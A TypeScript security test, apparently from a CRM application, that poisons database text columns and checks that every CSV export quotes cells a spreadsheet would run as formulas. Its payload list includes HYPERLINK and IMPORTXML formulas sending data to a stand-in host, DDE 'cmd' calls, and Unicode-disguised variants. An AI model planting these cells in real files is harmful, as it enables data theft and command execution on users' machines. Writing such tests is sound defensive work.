import { parse } from 'csv-parse/sync';
import { Importer } from '../../src/accounts/imports/importer.js';
import { restored } from '../../libs/csv/index.js';
import { csvEndpoints, type CsvEndpoint } from '../support/csv-endpoints.js';
import { fill } from './filled.js';
import { Installation, type Json, type Person } from '../support/installation.js';
import { attack } from './attack.js';

/** Cells that some spreadsheet runs: Excel, LibreOffice or Google Sheets, in some country. */
const CELLS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"here")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|0',
  '@SUM(1+1)*cmd|0',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\uFEFF=1+1',
  '\u2060\u00ad=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '"",=1+1',
  "'=1+1",
  'Müller;=1+1',
  'Müller;"=1+1',
  'Müller; \u200b=1+1',
  'Müller,=1+1',
  'Müller|@SUM(1)',
  '";=1+1;"',
  '%0A-1+1;=IMPORTXML("http://evil.example","//a")',
];
/** In one line, because names are; these may have several. */
const LINES = ['\t=1+1', 'a\t=1+1', 'a\r\n=1+1', 'a\n=1+1', '\r=1+1', '\n-1'];

let app: Installation;
let admin: Person;
let endpoints: CsvEndpoint[];
let poisoned: { table: string; columns: string[] }[];
/** endpoints in whose file the cell was found */
const reached = new Set<string>();

beforeAll(async () => {
  app = await Installation.open();
  admin = await app.as(['admin', 'sales_ops', 'executive'], 'management');
  endpoints = await csvEndpoints(app, admin);
  await fill(app);
  poisoned = await poisonable();
}, 120_000);
afterAll(() => app.close());

/** One may take a list twenty times an hour: after some tries another one asks. */
let tries = 0;
async function anotherNowAndThen(): Promise<void> {
  if (++tries % 8 === 0) admin = await app.as(['admin', 'sales_ops', 'executive'], 'management');
}

/** The columns of text that take any: no check, key or index is about them. */
async function poisonable(): Promise<typeof poisoned> {
  const columns = await app.sql<{ table: string; column: string }>(TEXT_COLUMNS);
  const taken: Record<string, string[]> = {};
  for (const { table, column } of columns)
    await poison([{ table, columns: [column] }], CELLS[0]!).then(
      () => void (taken[table] = [...(taken[table] ?? []), column]),
      () => undefined,
    );
  return Object.entries(taken).map(([table, of]) => ({ table, columns: of }));
}

async function poison(tables: typeof poisoned, cell: string): Promise<void> {
  await app.pastTriggers(async (superuser) => {
    for (const { table, columns } of tables)
      await superuser.query(`UPDATE "${table}" SET ${columns.map((column) => `"${column}" = $1`).join(', ')}`, [cell]);
    await superuser.query('UPDATE import_refusal SET cells = $1', [[cell]]);
    await superuser.query(`UPDATE organization SET attributes = $1`, [JSON.stringify({ [cell]: cell })]);
  });
}

const TEXT_COLUMNS = `
SELECT table_name AS table, column_name AS column
  FROM information_schema.columns JOIN information_schema.tables USING (table_schema, table_name)
 WHERE table_schema = 'public' AND table_type = 'BASE TABLE' AND data_type = 'text'
   AND table_name NOT IN ('session', 'setting', 'migration', 'migrations', 'idempotency_key', 'heartbeat')
   AND is_generated = 'NEVER' AND column_name !~ '(_key|_hash|sealed|state|roles?|zone|language|slug|token)$'`;

const asQuoted = (cell: string, { quoting }: { quoting: boolean }): string => (quoting ? `T${cell}` : cell);
/** What a spreadsheet skips before it looks for a formula. */
const FORMULA = /^[\s\u200b\u2060\u00ad\uFEFF"]*[=+\-@＝＋－＠−]/;
const NUMBER = /^"?-\d+(\.\d+)?[\]}]*$/;

attack(
  'a cell that a spreadsheet runs, in every file that the API answers',
  [...CELLS, ...LINES],
  async (cell) => {
    await anotherNowAndThen();
    await poison(poisoned, cell);
    for (const { path, paged } of endpoints) {
      const { status, body } = await admin.send<string>('GET', paged ? `${path}?format=csv` : path);
      expect([path, status]).toEqual([path, 200]);
      const [, ...rows] = parse(body, { bom: true, relax_column_count: true, cast: asQuoted }) as string[][];
      const quoted = rows
        .flat()
        .filter((each) => each.startsWith('T'))
        .map((each) => each.slice(1));
      // what is text stands in quotes
      expect([
        path,
        rows.flat().filter((each) => !/^(T|-?\d+(\.\d+)?(e[+-]\d+)?$|true$|false$|\d{4}-[\dT:.-]+Z$|$)/s.test(each)),
      ]).toEqual([path, []]);
      // also where the separator is another one, or quotes mean nothing
      const parts = [...quoted, ...quoted.flatMap((each) => each.split(/[;,|\t\r\n]/))];
      const running = parts.filter((each) => FORMULA.test(each) && !NUMBER.test(each));
      expect([path, running]).toEqual([path, []]);
      if (quoted.some((each) => restored(each) === cell)) reached.add(path);
    }
  },
  240_000,
);

test('the attack reached the files, but for one', () => {
  const missed = endpoints
    .map(({ path }) => path.replaceAll(/[\da-f]{8}-[\da-f-]+/g, '…'))
    .filter((_, at) => !reached.has(endpoints[at]!.path));
  // the rule of a cohort leaves nobody out there
  expect(missed).toEqual(['/cohorts/…/excluded-organizations']);
});

attack('a name that a spreadsheet runs, exported and imported again: nothing changes', CELLS, async (cell) => {
  await anotherNowAndThen();
  // as a name is kept: one line, no blanks around it
  const name = cell.replaceAll(/\s+/g, ' ').trim();
  const externalId = `x${Math.abs([...cell].reduce((sum, letter) => (sum * 31 + letter.codePointAt(0)!) | 0, 7))}`;
  const made = await admin.post<Json>('/organizations', { name, externalId, tags: ['=a', 'b'] });
  expect(made.status).toBe(201);
  const file = await admin.send<string>('GET', `/organizations?format=csv&q=${encodeURIComponent(externalId)}`);
  const { body: upload } = await admin.post<Json>('/imports?kind=organizations&filename=x.csv', file.body, {
    'content-type': 'text/csv',
  });
  expect((await admin.put<Json>(`/imports/${upload.id}/plan`, PLAN)).status).toBe(200);
  await admin.post(`/imports/${upload.id}/run`, {});
  await app.get(Importer).work(upload.id);
  expect((await admin.get<Json>(`/imports/${upload.id}`)).body).toMatchObject({ rows: 1, unchanged: 1, refused: 0 });
  expect((await admin.get<Json>(`/organizations/${made.body.id}`)).body).toMatchObject({ name, tags: ['=a', 'b'] });
});

const PLAN = {
  key: 'externalId',
  mapping: { externalId: 'organization.externalId', name: 'organization.name', tags: 'organization.tags' },
};
